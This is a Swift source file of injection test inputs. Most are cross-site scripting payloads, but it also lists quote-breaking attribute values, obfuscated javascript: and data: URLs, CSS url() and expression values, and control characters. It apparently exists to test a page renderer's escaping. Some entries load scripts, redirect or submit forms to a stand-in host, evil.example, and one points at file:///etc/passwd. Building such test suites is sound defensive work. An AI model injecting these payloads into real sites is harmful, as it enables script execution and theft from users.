/// Malicious values, which try to make a page do more than show them.
enum Attacks {
    static let all = elements + quotes + addresses + geometry + letters

    /// Values that try to become elements, in content or after the end of their context.
    static let elements = [
        "<script>alert(1)</script>", "</p><script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>",
        "<script/x>alert(1)",
        "<script\n>alert(1)</script>", "<script\t>alert(1)</script\t>", "<<script>script>alert(1)<</script>/script>",
        "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "</style><svg onload=alert(1)>",
        "</script><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=\"x\" onerror='alert(1)'>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script xlink:href=//evil.example/>",
        "<svg><set onend=x>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><img src=x onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
        "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=//evil.example>",
        "<embed src=//evil.example>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=a>",
        "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "<style>@import'//evil.example'</style>", "<div style=background:url(//evil.example)>", "<plaintext>", "<xmp>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script>",
        "<!--<img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "--!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>", "]]><script>alert(1)</script>", "<?xml version='1.0'?><x>",
        "<!DOCTYPE x>",
        "</", "<", "<a", "<!", "<?", "</a ", "<a b=\"", "<x:y z>", "{{7*7}}", "${alert(1)}", "<%= 7*7 %>",
    ]

    /// Values that try to end an attribute and begin another.
    static let quotes = [
        "\"", "'", "`", "\\\"", "\\'", "\">", "'>", "\"/>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)", "\"onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "\"\tonload=alert(1)\t\"", "\"\nonload=alert(1)\n\"", "\"/onload=alert(1)/\"", "x onerror=alert(1)",
        "\" style=\"background:url(//evil.example)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "&quot; onload=&quot;alert(1)", "&#34; onload=&#34;alert(1)", "&#x22;onload=alert(1)", "&QUOT onload=alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "&",
        "&amp", "&;", "&#", "&#x", "&amp;lt;script&amp;gt;", "=", "a=b", "/", "\\",
    ]

    /// Values that try to be followed or loaded.
    static let addresses = [
        "javascript:alert(1)", "JavaScript:alert(1)", "jAvAsCrIpT:alert(1)", " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "\njavascript:alert(1)", "\u{1}javascript:alert(1)", "\u{1F}javascript:alert(1)", "\u{0}javascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "javascript\t:alert(1)",
        "javascript\n:alert(1)", "j\u{0}avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)", "javascript://example.org/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
        "javascript:\"/*'/*`/*--></script>\"", "vbscript:msgbox(1)", "livescript:x", "mocha:x",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>", "DATA:,x", "blob:https://example.org/1", "filesystem:https://a/b",
        "file:///etc/passwd", "about:blank", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:x!/",
        "chrome://settings", "intent://x#Intent;end", "ftp://evil.example", "ws://evil.example", "x-anything:1",
        "\u{FEFF}javascript:alert(1)", "\u{A0}javascript:alert(1)", "javas\u{AD}cript:alert(1)",
        "javascript\u{2028}:alert(1)", "ｊavascript:alert(1)", "java%0ascript:alert(1)", "javascript%3Aalert(1)",
        "jav\u{7F}ascript:alert(1)", "javascriptjavascript:alert(1)", "xxxxhttps:alert(1)", ":", "::javascript:x",
    ]

    /// Values that try to be more than the shape or colour of a drawing.
    static let geometry = [
        "url(#a)", "url(//evil.example)", "URL(x)", "red url(x)", "u\\72l(x)", "url", "url (x)", "expression(alert(1))",
        "image(\"x\")", "image-set(\"x\" 1x)", "-webkit-image-set(url(x))", "src(\"x\")", "element(#x)", "attr(x)",
        "paint(x)", "cross-fade(url(x))", "env(x)", "var(--x, url(y))", "calc(1px + 2px)", "1;2", "0;fill:url(x)",
        "#fff;background:url(x)", "1}a{", "/**/url(x)", "0\" onload=\"alert(1)", "M0 0\"/><script>", "M0 0;",
        "rotate(1) url(x)",
        "rotate(javascript:alert(1))", "translate(1) x", "matrix(1 0 0 1 0 0)<", "NaN", "Infinity", "1\u{0}",
        "12\u{202E}", "１２",
    ]

    /// Control characters and look-alikes.
    static let letters = [
        "\u{0}", "a\u{0}b", "\u{8}", "\u{B}", "\u{1B}[2J", "\u{7F}", "\u{80}", "\u{85}", "\u{FFFE}", "\u{FFFF}",
        "\u{FEFF}",
        "\u{202E}gpj.exe", "\u{2028}", "\u{2029}", "\u{200B}", "＜script＞alert(1)＜/script＞", "‹script›",
        "+ADw-script+AD4-",
        "\u{1B}$B<script>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<\u{0}script>", "<script\u{0}>", "<\u{1}script>",
        "\u{10FFFF}", "a\r\nb", "", " ",
    ]
}
